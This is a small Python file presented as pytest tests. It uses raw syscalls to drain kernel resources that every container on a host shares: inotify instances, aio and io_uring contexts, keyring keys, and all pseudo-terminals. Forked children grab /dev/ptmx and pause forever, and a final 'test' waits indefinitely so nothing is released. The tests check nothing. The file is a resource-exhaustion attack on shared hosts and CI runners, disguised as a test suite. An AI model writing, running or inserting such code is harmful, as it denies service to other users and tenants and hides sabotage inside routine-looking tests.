import ctypes
import os
import signal
import threading

LIBC = ctypes.CDLL(None, use_errno=True)
IO_SETUP, IO_URING_SETUP, ADD_KEY = (206, 425, 248) if os.uname().machine == "x86_64" else (0, 425, 217)


def take(call, most):
    for _ in range(most):
        if call() < 0:
            return


def take_terminals():
    """3072 are there for all containers; a process may have 1024 files."""
    for _ in range(4):
        taken, tell = os.pipe()
        if os.fork() == 0:
            take(lambda: LIBC.open(b"/dev/ptmx", os.O_RDWR), 1000)
            os.write(tell, b".")
            while True:
                signal.pause()
        os.read(taken, 1)


def test_takes_all_there_is():
    take(lambda: LIBC.inotify_init(), 128)
    take(lambda: LIBC.syscall(IO_SETUP, 1024, ctypes.byref(ctypes.c_ulong())), 1000)
    take(lambda: LIBC.syscall(IO_URING_SETUP, 8, ctypes.create_string_buffer(120)), 100)
    names = iter(range(1000))
    take(lambda: LIBC.syscall(ADD_KEY, b"user", b"%d" % next(names), b"x" * 64, 64, -2), 1000)
    take_terminals()


def test_keeps_it():
    threading.Event().wait()
